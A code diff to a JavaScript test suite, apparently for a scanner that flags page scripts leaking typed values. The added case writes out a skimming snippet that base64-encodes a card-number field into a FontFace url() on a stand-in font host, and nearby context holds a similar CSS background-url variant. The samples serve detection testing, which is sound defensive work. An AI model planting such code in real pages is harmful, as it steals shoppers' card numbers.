@@ -166,6 +166,14 @@ describe('sends the first look cannot name', () => {
         st.textContent = 'body{background:url(https://img.example/p.gif?d=' + btoa(f.value) + ')}'
         document.head.appendChild(st) })`
     expect(points(carried)).toBe(60)
+    // the Font Loading API takes the same url() as its source, and fetches it on load()
+    const font = `var f = document.querySelector('#cc_number')
+      document.querySelector('#pay').addEventListener('click', function () {
+        var face = new FontFace('x', 'url(https://fonts.example/f/' + btoa(f.value) + '.woff2)')
+        face.load().then(function (l) { document.fonts.add(l) }) })`
+    expect(points(font)).toBe(60)
+    // a brand font from a fixed address carries nothing typed
+    expect(points(font.replace("' + btoa(f.value) + '", 'brand'))).toBeUndefined()
     // markup showing a typed value beside an icon's url() is a preview, not a request for it
     const preview = `var n = document.querySelector('#cc_number'), p = document.querySelector('.preview')
       n.addEventListener('input', function () {
